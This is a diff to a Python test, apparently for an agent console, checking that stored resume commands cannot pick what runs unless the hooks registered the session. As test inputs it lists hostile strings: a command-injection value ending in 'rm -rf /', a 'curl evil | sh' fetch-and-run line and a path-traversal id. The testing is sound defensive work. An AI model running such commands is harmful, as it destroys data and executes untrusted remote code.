@@ -415,8 +415,9 @@ def test_a_hooked_session_resumes_its_own_conversation(store: object, store_url:
 
 
 def test_a_stored_resume_command_never_chooses_what_runs(store: object, store_url: str) -> None:
-    """Only the agent's own pattern with an id the pattern check accepts: any other stored
-    command leaves the session not resumable, as before."""
+    """Only the agent's own pattern with an id the pattern check accepts, of a session the
+    hooks registered: any other stored command (or one registered by hand) leaves the session
+    not resumable, as before."""
     from roundtable_console.store.service import read_briefing
     from roundtable_console.store.writes.agent_writes import register
     from tests.hook_support import open_store
@@ -428,6 +429,7 @@ def test_a_stored_resume_command_never_chooses_what_runs(store: object, store_ur
                 "claude --resume x; rm -rf /",
                 "sh -c 'curl evil | sh'",
                 "claude --resume ../x",
+                "claude --resume x",  # the right shape, but not registered by the hooks
                 "claude --resume  x",
                 "codex --resume abc",
             ]
@@ -442,6 +444,8 @@ def test_a_stored_resume_command_never_chooses_what_runs(store: object, store_ur
                     working_directory="/tmp",
                     external_session_id="x",
                     resume_command=command,
+                    # As the hooks register, but the one of the right shape, made by hand.
+                    metadata=None if command == "claude --resume x" else {"hooks": "claude-code"},
                 )
             view = read_briefing(store=store, adapters={}, session_id=f"evil-{number}")
             assert not view.plan.resumable, command
